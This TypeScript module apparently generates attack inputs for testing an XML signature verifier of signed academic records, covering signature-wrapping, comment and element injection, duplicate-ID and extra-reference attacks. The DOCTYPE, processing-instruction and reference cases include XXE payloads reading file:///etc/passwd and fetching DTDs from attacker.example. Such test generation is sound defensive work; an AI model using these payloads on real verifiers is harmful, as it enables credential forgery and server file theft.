import {
  attributesOf,
  change,
  hosts,
  inSignature,
  invalid,
  markup,
  missing,
  partOf,
  putInto,
  rootOf,
  spaces,
  structure,
  tag,
  unsigned,
  withSignature,
  wrapped,
  type AttackKind,
} from './attack-making.js'
import { forged } from './attack-mutants.js'
import { uris } from './signed-documents.js'

const wrapping: Record<string, AttackKind> = {
  'the signature wrapped into the extension of a forged document': (twin, pick) =>
    missing(putInto(forged(unsigned(twin)), 'extension', wrapped(twin.signature, pick([0, 1, 3])))),
  'the signed original wrapped into the extension of a forged document': (twin, pick) =>
    missing(putInto(forged(unsigned(twin)), 'extension', wrapped(rootOf(twin.text), pick([0, 1, 3])))),
  'the signed original in a diploma supplement of a forged document': (twin) =>
    missing(
      putInto(
        forged(unsigned(twin)),
        'learningOpportunityInstance',
        `<diplomaSupplement>${rootOf(twin.text)}</diplomaSupplement>`,
      ),
    ),
  'the signed original moved inside, its signature at the forged root': (twin, pick) =>
    invalid(putInto(forged(twin.text), 'extension', wrapped(rootOf(unsigned(twin)), pick([0, 2])))),
  'the signed original inside a signature of the forged root': (twin, pick) =>
    structure(
      withSignature(
        { ...twin, text: forged(twin.text) },
        change(
          twin.signature,
          new RegExp(`</${tag(twin, 'Signature')}>$`),
          `<${tag(twin, 'Object')}${pick(['', ' Id="o"'])}>${rootOf(unsigned(twin))}</${tag(twin, 'Object')}></${tag(twin, 'Signature')}>`,
        ),
      ),
    ),
  'the signature moved to where none may stand': (twin, pick) =>
    structure(putInto(unsigned(twin), pick(hosts), wrapped(twin.signature, pick([0, 1, 4])))),
  'the root wrapped into another': (twin, pick) => {
    const name = pick(['elmo', 'wrap', 'x:elmo'])
    return structure(`<${name} xmlns:x="urn:x">${rootOf(twin.text)}</${name}>`)
  },
  'a second report beside the signed one': (twin, pick) => {
    const report = /<report>[^]*<\/report>/.exec(forged(twin.text))![0]
    const place = pick(['<report>', '<extension>', '<learner>'])
    return invalid(change(twin.text, place, report + place))
  },
}

const injections: Record<string, AttackKind> = {
  'an Object in the signature': (twin, pick) => {
    const object = `<${tag(twin, 'Object')}>${pick(['', 'text', rootOf(forged(twin.text)), '<report/>'])}</${tag(twin, 'Object')}>`
    const place = pick([
      `</${tag(twin, 'Signature')}>`,
      `<${tag(twin, 'SignatureValue')}>`,
      `<${tag(twin, 'SignedInfo')}>`,
    ])
    return structure(
      withSignature(
        twin,
        twin.signature.replace(place, (found) => object + pick(spaces) + found),
      ),
    )
  },
  'another element in the signature': (twin, pick) => {
    const name = pick(['Manifest', 'SignatureProperties', 'KeyInfo', 'SignatureValue', 'Unknown'])
    const element = `<${tag(twin, name)}/>`
    const parent = pick(['Signature', 'SignedInfo', 'Reference', 'Transforms', 'DigestMethod', 'SignatureMethod'])
    const end = new RegExp(`</${tag(twin, parent)}>|(?<=<${tag(twin, parent)} [^>]*)/>`)
    return structure(
      withSignature(
        twin,
        twin.signature.replace(end, (found) =>
          found === '/>' ? `>${element}</${tag(twin, parent)}>` : element + found,
        ),
      ),
    )
  },
  'a comment or CDATA in the signature': (twin, pick) => {
    const put = pick(['<!-- -->', '<!---->', '<![CDATA[]]>', '<![CDATA[ ]]>', '<!-- </Signature> -->'])
    const name = pick([
      'SignedInfo',
      'SignatureValue',
      'DigestValue',
      'Transforms',
      'Reference',
      'X509Data',
      'X509Certificate',
    ])
    const begins = new RegExp(`<${tag(twin, name)}(?: [^>]*)?>`)
    return structure(
      withSignature(
        twin,
        twin.signature.replace(begins, (found) => (pick([true, false]) ? found + put : `${put}${found}`)),
      ),
    )
  },
  'text between the parts of the signature': (twin, pick) => {
    const begin = `<${tag(twin, pick(['SignedInfo', 'SignatureValue', 'KeyInfo', 'Transforms', 'DigestValue']))}>`
    return structure(inSignature(twin, begin, pick(['x', '&#160;', '&lt;', '0']) + begin))
  },
  'an attribute that the specification does not know': (twin, pick) =>
    structure(
      inSignature(
        twin,
        new RegExp(
          `(?<=<${tag(twin, pick(['SignedInfo', 'SignatureValue', 'DigestValue', 'Transforms', 'SignatureMethod', 'DigestMethod']))})(?=[ >])`,
        ),
        ` ${pick(['id="x"', 'xml:id="x"', 'x:Algorithm="a" xmlns:x="urn:x"', 'Encoding="none"', 'xml:lang="en"'])}`,
      ),
    ),
  'a processing instruction': (twin, pick) => {
    const put = pick(['<?x?>', '<?xml-stylesheet href="http://attacker.example/"?>', '<?x y?>'])
    const place = pick([
      '<learner>',
      '</report>',
      '</elmo>',
      '<elmo ',
      `</${tag(twin, 'Signature')}>`,
      `<${tag(twin, 'SignatureValue')}>`,
    ])
    return markup(change(twin.text, place, put + place))
  },
  'a DOCTYPE': (twin, pick) => {
    const inner = pick([
      '',
      ' [<!ENTITY x "y">]',
      ' [<!ENTITY x SYSTEM "file:///etc/passwd">]',
      ' SYSTEM "http://attacker.example/x.dtd"',
      ' [<!ATTLIST report Id ID #IMPLIED>]',
      ' [<!ENTITY % p SYSTEM "http://attacker.example/"> %p;]',
    ])
    return markup(change(twin.text, '<elmo', `${pick(spaces)}<!DOCTYPE elmo${inner}>${pick(spaces)}<elmo`))
  },
  'an entity that nobody declared': (twin, pick) =>
    markup(
      change(twin.text, pick(['Tolvansson', '7.5', 'VG', 'ABC123']), pick(['&x;', '&nbsp;', '&eacute;', 'a&xxe;b'])),
    ),
}

const references: Record<string, AttackKind> = {
  'a reference to something else than the document': (twin, pick) => {
    const uri = pick([
      '#x',
      '#xpointer(/)',
      "#xpointer(id('x'))",
      'https://attacker.example/',
      'file:///etc/passwd',
      ' ',
      '?',
      'elmo.xml',
      '#',
    ])
    const ids = pick(['', ' Id="x"'])
    const xml = inSignature(twin, attributesOf(twin, 'Reference'), ` URI="${uri}"`)
    return structure(ids === '' ? xml : change(xml, '<report>', `<report${ids}>`))
  },
  'duplicate ids, one of them signed': (twin, pick) => {
    const [first, second] = pick([
      ['<learner>', '<report>'],
      ['<report>', '<issuer>'],
      ['<issuer>', '<credit>'],
    ])
    const id = pick(['Id', 'ID', 'id', 'xml:id'])
    const marked = [first, second].reduce(
      (text, at) => change(text, at!, at!.replace('>', ` ${id}="x">`)),
      forged(twin.text),
    )
    const signature = change(twin.signature, attributesOf(twin, 'Reference'), ' URI="#x"')
    return structure(change(marked, twin.signature, signature))
  },
  'no reference, or one without URI': (twin, pick) =>
    structure(
      pick([true, false])
        ? inSignature(twin, partOf(twin, 'Reference'), '')
        : inSignature(twin, attributesOf(twin, 'Reference'), pick(['', ' Id="x"', ' uri=""', ' Type=""'])),
    ),
  'a second reference': (twin, pick) => {
    const own = partOf(twin, 'Reference')
    const second = pick([
      own,
      change(own, 'URI=""', 'URI="#x"'),
      change(own, 'URI=""', 'URI="https://attacker.example/"'),
    ])
    return structure(inSignature(twin, own, pick([own + second, second + own])))
  },
  'a second SignedInfo': (twin, pick) => {
    const own = partOf(twin, 'SignedInfo')
    const second = pick([own, own.replace(/(DigestValue>)[^<]*/, '$1AAAA'), `<${tag(twin, 'SignedInfo')}/>`])
    return structure(inSignature(twin, own, pick([own + second, second + own])))
  },
  'a second signature at the root': (twin, pick) => {
    const forger = twin.signAsAttacker(forged(unsigned(twin)))
    const theirs = forger.slice(
      forger.search(/<(?:\w+:)?Signature (?![^]*<(?:\w+:)?Signature )/),
      forger.lastIndexOf('</elmo>'),
    )
    const second = pick([twin.signature, theirs, `<Signature xmlns="${uris.dsig}"/>`])
    return structure(withSignature(twin, pick([twin.signature + second, second + twin.signature])))
  },
  'a signature inside KeyInfo': (twin, pick) => {
    const put = pick([
      twin.signature,
      partOf(twin, 'SignedInfo'),
      partOf(twin, 'Reference'),
      `<${tag(twin, 'Object')}/>`,
    ])
    const place = pick(['KeyInfo', 'X509Data'])
    return structure(inSignature(twin, `<${tag(twin, place)}>`, `<${tag(twin, place)}>${wrapped(put, pick([0, 1]))}`))
  },
}

/** Attacks on what the signature consists of, and on where it stands. */
export const attacksOnStructure: Readonly<Record<string, AttackKind>> = { ...wrapping, ...injections, ...references }
